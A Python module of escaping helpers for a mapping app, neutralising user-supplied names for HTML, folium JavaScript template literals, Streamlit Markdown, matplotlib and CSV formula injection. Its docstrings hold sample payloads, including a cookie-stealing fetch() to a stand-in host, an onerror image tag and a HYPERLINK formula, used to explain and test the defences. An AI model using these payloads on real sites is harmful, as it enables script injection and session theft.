"""Escaping for every user- or file-supplied string the product renders or writes.

Site, area, boundary, operation, category, workspace and user names, and notes, come
from people and files the product does not control. Each helper here makes such a
string inert in one place it is shown:

======================  ==============================================================
:func:`html_text`       HTML text or attribute value (Jinja with autoescape does the same)
:func:`js_html`         HTML that folium pastes inside a JavaScript template literal
                        (`` `...` ``): also neutralises backticks, ``${`` and backslashes
:func:`tooltip`,        a :class:`folium.Tooltip` / :class:`folium.Popup` built from plain
:func:`popup`           text, escaped with :func:`js_html`
:func:`md`, `md_code`  Markdown for Streamlit (``st.markdown``, ``st.title``, captions,
                        alerts, widget and metric labels): every ASCII punctuation
                        character is backslash-escaped, line breaks become spaces
:func:`mpl_text`        matplotlib text (``$`` would start mathtext)
:func:`csv_cell`,       spreadsheet formula injection: a text cell starting with ``=``,
:func:`csv_frame`,      ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``;
:func:`csv_text`,       numbers, and text that is exactly a number, stay as they are
:func:`csv_bytes`,
:func:`write_csv`
======================  ==============================================================

Why folium needs more than HTML escaping: ``folium.Tooltip("...")`` (and every
``tooltip="..."`` argument of a folium layer) renders as
``layer.bindTooltip(`<div>...</div>`)``, a JavaScript template literal, so a site named
``Pharmacy ${fetch('http://example/?'+document.cookie)}`` runs script in the browser of
whoever opens the map, and ``</div>`` or ``<img onerror=...>`` becomes live HTML.
``folium.Popup("...")`` pastes its text unescaped into ``$(`...`)``. Layer names in the
layer control, ``GeoJsonTooltip`` aliases and values, and legend HTML are all set as
``innerHTML`` by Leaflet. Build tooltips with :func:`tooltip` (or
``GeoJsonTooltip`` over :func:`html_text` values, as :mod:`geo.maps` does) and never pass
a raw string.

Examples
--------
>>> js_html("Pharmacy ${fetch('http://127.0.0.1:9/x')}")
'Pharmacy &#36;{fetch(&#x27;http://127.0.0.1:9/x&#x27;)}'
>>> md("![x](http://127.0.0.1:9/i.png)")
'\\\\!\\\\[x\\\\]\\\\(http\\\\:\\\\/\\\\/127\\\\.0\\\\.0\\\\.1\\\\:9\\\\/i\\\\.png\\\\)'
>>> csv_cell("=HYPERLINK(\\"http://x\\")"), csv_cell(-3), csv_cell("-3"), csv_cell("-3 stolen")
('\\'=HYPERLINK("http://x")', -3, '-3', "'-3 stolen")
"""
from __future__ import annotations

import html as _html
import math
import re
from pathlib import Path

import pandas as pd

__all__ = [
    "FORMULA_PREFIXES",
    "csv_bytes",
    "csv_cell",
    "csv_frame",
    "csv_text",
    "html_text",
    "js_html",
    "md",
    "md_code",
    "mpl_text",
    "popup",
    "tooltip",
    "write_csv",
]


def _text(value) -> str:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    return str(value)


# ------------------------------------------------------------------------------ HTML
def html_text(value) -> str:
    """Escape `value` for HTML text or a quoted attribute value.

    Parameters
    ----------
    value : object
        Converted with ``str``; ``None`` and NaN give ``""``.

    Returns
    -------
    str
        ``& < > " '`` replaced by character references.

    Examples
    --------
    >>> html_text('<img src=x onerror="alert(1)">')
    '&lt;img src=x onerror=&quot;alert(1)&quot;&gt;'
    """
    return _html.escape(_text(value), quote=True)


_JS_TEMPLATE = str.maketrans({"`": "&#96;", "$": "&#36;", "\\": "&#92;"})


def js_html(value) -> str:
    """Escape `value` as HTML that may sit inside a JavaScript template literal.

    :func:`html_text` plus backtick, ``$`` and backslash as character references, so the
    text can neither close the literal, open a ``${...}`` expression nor escape the
    closing backtick. The browser shows the same characters.

    Parameters
    ----------
    value : object

    Returns
    -------
    str

    Examples
    --------
    >>> js_html("a`b ${c} d\\\\")
    'a&#96;b &#36;{c} d&#92;'
    """
    return html_text(value).translate(_JS_TEMPLATE)


def tooltip(text, *, sticky: bool = True, **kwargs):
    """A :class:`folium.Tooltip` showing `text` as plain text.

    Parameters
    ----------
    text : object
        Plain text (not HTML): names, distances, flags.
    sticky : bool, default True
        Follow the mouse.
    **kwargs
        Leaflet tooltip options, passed to :class:`folium.Tooltip`.

    Returns
    -------
    folium.Tooltip

    Examples
    --------
    >>> "${" in tooltip("${alert(1)}").text
    False
    """
    import folium
    tip = folium.Tooltip(js_html(text), sticky=sticky, **kwargs)
    tip._geo_safe = True  # geo.maps.escape_raw_text leaves it alone
    return tip


def popup(text, **kwargs):
    """A :class:`folium.Popup` showing `text` as plain text.

    Parameters
    ----------
    text : object
        Plain text (not HTML).
    **kwargs
        Passed to :class:`folium.Popup` (``max_width``, ``show``, ...).

    Returns
    -------
    folium.Popup
    """
    import folium
    pop = folium.Popup(js_html(text), parse_html=False, **kwargs)
    pop._geo_safe = True  # geo.maps.escape_raw_text leaves it alone
    return pop


# -------------------------------------------------------------------------- Markdown
_MD_PUNCT = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character
_LINE_BREAKS = re.compile(r"[\r\n\u2028\u2029]+")


def md(value) -> str:
    """Escape `value` so Streamlit's Markdown shows it literally.

    Every ASCII punctuation character gets a backslash (CommonMark shows ``\\x`` as
    ``x`` for any of them), so no link, image, emphasis, heading, HTML, ``$`` maths,
    ``:colour[...]`` directive or ``:emoji:`` shortcode can start inside it; line
    breaks become spaces so it cannot open a new block. Use it for every name, category,
    note or error message interpolated into ``st.markdown``, ``st.title``,
    ``st.header``, ``st.subheader``, ``st.caption``, ``st.info`` / ``warning`` /
    ``error`` / ``success``, ``st.metric`` and widget labels, and ``st.radio`` options.

    Parameters
    ----------
    value : object
        Plain text; ``None`` gives ``""``.

    Returns
    -------
    str

    Examples
    --------
    >>> md("Leeds *North*")
    'Leeds \\\\*North\\\\*'
    """
    return _MD_PUNCT.sub(r"\\\1", _LINE_BREAKS.sub(" ", _text(value)))


def md_code(value) -> str:
    """`value` as a Markdown code span (monospace), whatever backticks it holds.

    Nothing inside a code span is interpreted, so only a backtick could end it early:
    the fence is one backtick longer than the longest run in `value`.

    Examples
    --------
    >>> md_code("a`b"), md_code("x.gpkg")
    ('`` a`b ``', '`x.gpkg`')
    """
    text = _LINE_BREAKS.sub(" ", _text(value))
    longest = max((len(r) for r in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if longest else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def mpl_text(value) -> str:
    """Escape `value` for matplotlib text: ``$`` would start mathtext (or fail to parse).

    Examples
    --------
    >>> mpl_text("Op $1$")
    'Op \\\\$1\\\\$'
    """
    return _text(value).replace("$", r"\$")


# ------------------------------------------------------------------------------- CSV
#: A spreadsheet reads a cell starting with one of these as a formula (the full-width
#: forms are included: some spreadsheets normalise them).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value):
    """Neutralise one cell against spreadsheet formula injection.

    Text starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return (after any
    leading spaces) gets a leading ``'``, which spreadsheets read as "this is text".
    Anything that is not text, and text that is exactly a number such as ``"-3"`` or
    ``"+1.5e3"``, is returned unchanged.

    Parameters
    ----------
    value : object

    Returns
    -------
    object
        `value`, or ``"'" + value``.

    Examples
    --------
    >>> csv_cell("@SUM(A1)"), csv_cell("Pharmacy"), csv_cell(2.5)
    ("'@SUM(A1)", 'Pharmacy', 2.5)
    """
    if not isinstance(value, str):
        return value
    if value.lstrip(" ").startswith(FORMULA_PREFIXES) and not _NUMBER.fullmatch(value.strip()):
        return "'" + value
    return value


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` with every text cell and column name passed through :func:`csv_cell`.

    Numeric, boolean and date columns are left as they are (a count of -3 stays the
    number -3). A geometry column is written as WKT text.

    Parameters
    ----------
    frame : pandas.DataFrame

    Returns
    -------
    pandas.DataFrame
    """
    out = pd.DataFrame(frame).copy()
    for col in out.columns:
        s = out[col]
        if isinstance(s, pd.DataFrame):  # duplicate column names
            continue
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out[col] = s.map(csv_cell)
        elif getattr(s.dtype, "name", "") == "geometry":
            out[col] = s.to_wkt() if hasattr(s, "to_wkt") else s.astype(str)
    if isinstance(out.columns, pd.MultiIndex):
        out.columns = pd.MultiIndex.from_tuples(
            [tuple(csv_cell(c) for c in col) for col in out.columns], names=out.columns.names)
    else:
        out.columns = pd.Index([csv_cell(c) for c in out.columns], name=out.columns.name)
    if isinstance(out.index, pd.MultiIndex):
        out.index = pd.MultiIndex.from_tuples([tuple(csv_cell(c) for c in row) for row in out.index],
                                              names=out.index.names)
    elif out.index.dtype == object or pd.api.types.is_string_dtype(out.index.dtype):
        out.index = pd.Index([csv_cell(c) for c in out.index], name=out.index.name)
    return out


def csv_text(frame: pd.DataFrame, **kwargs) -> str:
    """`frame` as CSV text, every cell neutralised (:func:`csv_frame`).

    Parameters
    ----------
    frame : pandas.DataFrame
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv`; ``index`` defaults to ``False``.

    Returns
    -------
    str

    Examples
    --------
    >>> print(csv_text(pd.DataFrame({"name": ["=1+1", "Park"], "n": [-3, 4]})), end="")
    name,n
    '=1+1,-3
    Park,4
    """
    kwargs.setdefault("index", False)
    return csv_frame(frame).to_csv(**kwargs)


def csv_bytes(frame: pd.DataFrame, **kwargs) -> bytes:
    """:func:`csv_text` encoded as UTF-8, for ``st.download_button``."""
    return csv_text(frame, **kwargs).encode("utf-8")


def write_csv(frame: pd.DataFrame, path: str | Path, **kwargs) -> Path:
    """Write `frame` to `path` as neutralised CSV (UTF-8); returns the path."""
    path = Path(path)
    path.write_text(csv_text(frame, **kwargs), encoding="utf-8")
    return path
